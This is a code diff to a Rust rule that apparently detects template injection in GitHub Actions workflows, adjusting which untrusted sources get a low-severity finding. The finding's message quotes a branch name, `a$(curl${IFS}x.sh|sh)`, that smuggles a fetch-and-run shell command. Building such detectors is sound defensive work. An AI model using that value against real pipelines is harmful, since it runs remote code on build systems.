@@ -187,7 +187,7 @@ impl Rule for TemplateInjection {
                             let (s, w) = attacker_severity(site.workflow, &source);
                             (s, w, Confidence::High)
                         }
-                        Taint::Caller if source.starts_with("github.") => (
+                        Taint::Caller if !source.starts_with("inputs.") && !source.starts_with("github.event.inputs.") => (
                             Severity::Low,
                             "anyone who can push a branch or tag chooses its name, and a name like `a$(curl${IFS}x.sh|sh)` is valid".to_string(),
                             Confidence::Medium,
